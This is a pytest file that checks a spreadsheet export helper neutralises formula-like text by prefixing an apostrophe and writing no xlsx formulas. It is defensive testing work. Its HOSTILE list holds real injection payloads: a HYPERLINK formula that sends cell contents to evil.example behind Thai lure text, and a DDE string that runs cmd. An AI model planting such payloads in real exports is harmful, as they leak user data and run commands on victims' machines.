"""Exported text cells are never evaluated by a spreadsheet (issue 10 point 3)."""

from __future__ import annotations

import zipfile
from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from openita.spreadsheet import inert, is_formula_like, xlsx_row

HYPERLINK = '=HYPERLINK("https://evil.example/?c="&A2&B2,"คลิกเพื่อดูคะแนน")'
HOSTILE = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\u00a0@SUM(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_texts_get_an_apostrophe_for_csv(text):
    assert is_formula_like(text)
    assert inert(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["เทศบาลตำบลคำบง", "a=b", "", 94.11, -3, 0, None, date(2025, 1, 2)]
)
def test_other_values_are_unchanged_and_numbers_stay_numbers(value):
    assert inert(value) == value
    assert type(inert(value)) is type(value)


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(BytesIO(data)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_rows_keep_the_text_and_write_no_formula():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append(xlsx_row(sheet, [*HOSTILE, -1.5, 7]))
    out = BytesIO()
    book.save(out)
    assert "<f>" not in _sheet_xml(out.getvalue())
    values = next(load_workbook(BytesIO(out.getvalue())).active.values)
    assert list(values) == [*HOSTILE, -1.5, 7]


def test_without_the_helper_openpyxl_would_write_a_formula():
    """The failure the helper prevents (so the test above can fail)."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("t")
    sheet.append([HYPERLINK])
    out = BytesIO()
    book.save(out)
    assert "<f>" in _sheet_xml(out.getvalue())
